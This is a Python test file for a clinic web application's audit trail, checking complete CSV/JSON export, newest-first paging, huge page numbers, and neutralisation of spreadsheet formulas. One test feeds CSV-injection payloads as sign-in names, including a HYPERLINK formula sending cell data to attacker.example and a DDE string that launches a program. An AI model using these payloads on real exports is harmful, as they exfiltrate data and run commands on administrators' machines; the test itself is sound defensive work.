"""The audit trail past 10,000 entries (a clinic reaches it in weeks: every page view is audited): the export is
complete and the audit page shows the newest entries first, a page at a time (regression: the export stopped at the
first 10,000 rows and the page, which said 'the latest 500 entries', showed rows 9,501-10,000 for ever)."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from pathlib import Path

from fastapi.testclient import TestClient
from sqlalchemy import insert

from charcot.web.app import Settings, create_app
from charcot.web.store import AuditRow, Store
from tests.web.test_security import BASE, add_users

SAME = {"origin": BASE}


def test_audit_export_is_complete_and_the_page_shows_the_newest(tmp_path: Path) -> None:
    data = tmp_path / "data"
    add_users(data, None, ("rita", "reviewer"))
    store = Store(data, None)
    now = datetime.now(UTC).replace(tzinfo=None)
    with store.engine.begin() as conn:  # one transaction: 10,050 rows in well under a second
        conn.execute(insert(AuditRow), [{"at": now, "actor": "someone", "action": "view", "case_id": None,
                                         "patient": f"P-{i}", "detail": f"entry {i}"} for i in range(10_050)])
    store.engine.dispose()
    app = create_app(Settings(data_dir=data, pdf=False))
    with TestClient(app, base_url=BASE) as c:
        r = c.post("/login", data={"username": "rita", "password": "rita-password-123"}, headers=SAME,
                   follow_redirects=False)
        assert r.status_code == 303
        rows = list(csv.reader(io.StringIO(c.get("/audit.csv").text)))
        assert rows[0][0] == "id" and len(rows) - 1 >= 10_051  # the 10,050 + the sign-in, all of them
        assert rows[10_050][-1] == "entry 10049"
        entries = json.loads(c.get("/audit.json").text)
        assert len(entries) >= 10_052 and entries[10_049]["detail"] == "entry 10049"
        page = c.get("/audit", headers={"accept": "text/html"}).text
        # newest first: the downloads just made are at the top, the oldest bulk entry is not on page 1
        first = re.search(r"<tr><td>[^<]*</td><td>([^<]*)</td><td>([^<]*)</td>", page)
        assert first is not None and first.groups() == ("rita", "download")
        assert "entry 0<" not in page and 'id="next"' in page
        assert "entry 0<" in c.get("/audit?page=500&per_page=200", headers={"accept": "text/html"}).text \
            or "entry 0<" in c.get(f"/audit?page={-(-10_053 // 200)}&per_page=200",
                                   headers={"accept": "text/html"}).text


def test_a_page_far_past_the_last_is_empty_not_a_server_error(tmp_path: Path) -> None:
    app = create_app(Settings(data_dir=tmp_path / "data", pdf=False))
    with TestClient(app, base_url=BASE, raise_server_exceptions=False) as c:
        for huge in ("9223372036854775807", "9" * 30):
            r = c.get(f"/api/cases?page={huge}")
            assert r.status_code == 200 and r.json()["cases"] == []
            assert c.get(f"/audit?page={huge}", headers={"accept": "text/html"}).status_code == 200
            assert c.get(f"/?page={huge}", headers={"accept": "text/html"}).status_code == 200


def test_audit_csv_never_carries_a_formula_and_a_refused_format_is_not_audited(tmp_path: Path) -> None:
    """A user name tried at sign-in (anyone can type one) reached the audit CSV as '=HYPERLINK(...)', a formula
    a spreadsheet runs when the administrator opens the trail; and '/audit.xml', refused with 404, was still
    recorded as a download of the trail."""
    data = tmp_path / "data"
    add_users(data, None, ("rita", "reviewer"))
    app = create_app(Settings(data_dir=data, pdf=False))
    hostile = ['=HYPERLINK("http://attacker.example/?d="&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "-cmd|' /C calc'!A0"]
    with TestClient(app, base_url=BASE) as c:
        for name in hostile:
            assert c.post("/login", data={"username": name, "password": "wrong-password-123"}, headers=SAME,
                          follow_redirects=False).status_code == 401
        r = c.post("/login", data={"username": "rita", "password": "rita-password-123"}, headers=SAME,
                   follow_redirects=False)
        assert r.status_code == 303
        assert c.get("/audit.xml").status_code == 404
        rows = list(csv.reader(io.StringIO(c.get("/audit.csv").text)))
        entries = json.loads(c.get("/audit.json").text)
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    for name in hostile:  # still recorded, readable as text in the CSV, and exactly as typed in the JSON
        assert "'" + name in cells and any(e["actor"] == name for e in entries)
    assert not [e for e in entries if "xml" in (e["detail"] or "")], "a refused export was audited as a download"
